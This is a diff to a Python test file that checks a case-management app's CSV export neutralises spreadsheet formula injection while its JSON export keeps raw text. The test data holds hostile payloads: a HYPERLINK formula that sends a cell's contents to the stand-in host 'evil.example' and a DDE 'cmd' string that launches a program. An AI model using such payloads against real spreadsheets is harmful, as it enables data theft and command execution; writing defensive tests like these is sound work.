@@ -14,7 +14,7 @@ from reception import clock
 from reception.errors import ValidationFailed
 from reception.form_definition import FieldSpec
 from reception.privacy import audit, id_cards, retention
-from reception.privacy.export import export_cases
+from reception.privacy.export import export_cases, neutralise_formula
 from reception.privacy.notice import notice_text
 from reception.privacy.roles import Access, LeaderRequired
 from reception.storage import repository as repo
@@ -98,6 +98,7 @@ def test_export_needs_the_team_leader_and_is_logged(desk, make_case, tmp_path):
     assert text.startswith("\ufeff")
     [row] = list(csv.DictReader(text.removeprefix("\ufeff").splitlines()))
     assert row["resident_name"] == "孙尚香" and row["consent"] == "True"
+    assert row["phone"] == "'+8613812345678"  # kept as text, not a formula nor 8.61E+12
     assert export_cases(desk, access, tmp_path / "export.json", "json", tmp_path / "data") == 1
     assert json.loads((tmp_path / "export.json").read_text(encoding="utf-8"))[0]["phone"] == "+8613812345678"
     with pytest.raises(Exception, match="数据目录"):
@@ -114,3 +115,31 @@ def test_the_purge_can_be_run_by_the_system_role_and_is_logged_as_such(desk, mak
     entry = audit.entries(desk.db)[-1]
     assert (entry["action"], entry["role"]) == ("purge", "system")
     assert "系统" in audit.describe(entry)
+
+
+def test_the_csv_export_neutralises_formulas_and_the_json_keeps_the_text(desk, make_case, tmp_path):
+    desk.record_case(make_case(
+        description='=HYPERLINK("http://evil.example/?d="&B2,"点这里")',
+        address="@SUM(1+1)*cmd|' /C calc'!A0",
+        outcome_note="-2+3",
+        resident_name="+王阿姨",
+    ))
+    access = Access(desk)
+    access.set_pin(TEST_PIN)
+    access.become_leader(TEST_PIN)
+    export_cases(desk, access, tmp_path / "out.csv", "csv", tmp_path / "data")
+    [row] = list(csv.DictReader((tmp_path / "out.csv").read_text(encoding="utf-8").removeprefix("\ufeff").splitlines()))
+    for column in ("description", "address", "outcome_note", "resident_name", "phone"):
+        assert row[column].startswith("'"), column
+    assert row["description"] == "\'=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点这里\")"
+    assert row["category_name"][0] != "'" and row["urgency"] == "一般"
+    export_cases(desk, access, tmp_path / "out.json", "json", tmp_path / "data")
+    [plain] = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
+    assert plain["description"].startswith("=HYPERLINK(")
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_prefix_is_neutralised(prefix):
+    assert neutralise_formula(prefix + "1+1") == "'" + prefix + "1+1"
+    assert neutralise_formula("1" + prefix) == "1" + prefix
+    assert neutralise_formula(None) is None and neutralise_formula(3) == 3
